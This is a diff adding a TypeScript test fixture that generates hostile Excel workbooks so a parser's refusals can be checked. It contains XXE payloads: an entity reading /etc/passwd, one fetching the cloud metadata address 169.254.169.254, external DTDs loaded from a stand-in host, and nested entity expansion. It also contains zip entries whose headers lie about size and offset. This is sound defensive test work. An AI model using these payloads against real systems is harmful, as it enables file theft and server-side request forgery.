@@ -1,0 +1,79 @@
+import type { WorkbookErrorCode } from '../src/model/workbook-error';
+import type { HostileWorkbook } from './hostile-workbook';
+import { workbookBytes, workbookEntries } from './workbook-bytes';
+import type { ZipEntryRecipe } from './zip-bytes';
+
+/** The parts that are read, and when. */
+const PARTS: readonly (readonly [name: string, at: HostileWorkbook['at']])[] = [
+  ['_rels/.rels', 'inspection'],
+  ['xl/workbook.xml', 'inspection'],
+  ['xl/_rels/workbook.xml.rels', 'inspection'],
+  ['xl/styles.xml', 'rows'],
+  ['xl/worksheets/sheet1.xml', 'rows'],
+  ['xl/sharedStrings.xml', 'rows'],
+];
+
+const HOLDS_TEXTS = new Set(['xl/worksheets/sheet1.xml', 'xl/sharedStrings.xml']);
+
+const recipe = { strings: '<si><t>a</t></si>', formats: ['yyyy'] };
+
+/** The same attack on every part of a workbook: what one scanner refuses, another may let through. */
+export function attacksByPart(): HostileWorkbook[] {
+  return PARTS.flatMap(([part, at]) => {
+    const attack = (name: string, code: WorkbookErrorCode, change: (text: string) => Partial<ZipEntryRecipe>) => ({
+      name: `${part}: ${name}`,
+      code,
+      at,
+      make: () => workbookBytes({ ...recipe, entries: [{ name: part, content: '', ...change(contentOf(part)) }] }),
+    });
+    const declared = (type: string) => (text: string) => ({ content: withDoctype(text, type) });
+    return [
+      attack('entities inside', 'entities_refused', declared('[<!ENTITY a "aaaaaaaaaa">]')),
+      attack('entities of entities', 'entities_refused', declared('[<!ENTITY a "a"><!ENTITY b "&a;&a;&a;&a;&a;">]')),
+      attack('an entity of a file', 'entities_refused', declared('[<!ENTITY a SYSTEM "file:///etc/passwd">]')),
+      attack('an entity of the web', 'entities_refused', declared('[<!ENTITY a SYSTEM "http://169.254.169.254/">]')),
+      attack('a parameter entity', 'entities_refused', declared('[<!ENTITY % a SYSTEM "http://x.example/a.dtd"> %a;]')),
+      attack('a declaration elsewhere', 'entities_refused', declared('SYSTEM "http://x.example/a.dtd"')),
+      attack('written in UTF-16', 'malformed_xml', (text) => ({ content: utf16(text) })),
+      attack('written in UTF-16, the other way round', 'malformed_xml', (text) => ({ content: utf16(text).swap16() })),
+      attack('noughts', 'malformed_xml', () => ({ content: Buffer.alloc(4_096) })),
+      // What is missing of the others is guessed, or needed by nobody.
+      ...(HOLDS_TEXTS.has(part) ? [attack('something else', 'malformed_xml', () => ({ content: '{"a": 1}' }))] : []),
+      attack('a stream that is none', 'damaged', () => ({ content: Buffer.alloc(300, 0xff), stored: true, method: 8 })),
+      attack('a nought for its size', 'suspicious_archive', (text) => ({ content: text, claims: { size: 0 } })),
+      attack('less than its size', 'suspicious_archive', (text) => ({ content: text, claims: { size: 20 } })),
+    ];
+  });
+}
+
+/** What an archive says of each of its entries, and none of it true: all of it shows before anything is inflated. */
+export function liesByPart(): HostileWorkbook[] {
+  return PARTS.flatMap(([part]) => {
+    const lie = (name: string, code: WorkbookErrorCode, told: Partial<ZipEntryRecipe>) => ({
+      name: `${part}: ${name}`,
+      code,
+      at: 'inspection' as const,
+      make: () => workbookBytes({ ...recipe, entries: [{ name: part, content: contentOf(part), ...told }] }),
+    });
+    return [
+      lie('encrypted', 'encrypted', { flags: 1 }),
+      lie('a compression of its own', 'suspicious_archive', { method: 99 }),
+      lie('four gigabytes', 'suspicious_archive', { claims: { size: 0xffffffff } }),
+      lie('longer than the file', 'suspicious_archive', { claims: { compressedSize: 10_000_000 } }),
+      lie('beyond the file', 'suspicious_archive', { claims: { offset: 0x7fffffff } }),
+    ];
+  });
+}
+
+function contentOf(part: string): string {
+  return String(workbookEntries(recipe).find(({ name }) => name === part)?.content);
+}
+
+function withDoctype(text: string, declaration: string): string {
+  const [root = ''] = /<[A-Za-z]+/.exec(text) ?? [];
+  return text.replace(root, `<!DOCTYPE x ${declaration}>${root}`);
+}
+
+function utf16(text: string): Buffer {
+  return Buffer.from(`\ufeff${text.replace(/^<\?.*?\?>/, '')}`, 'utf16le');
+}
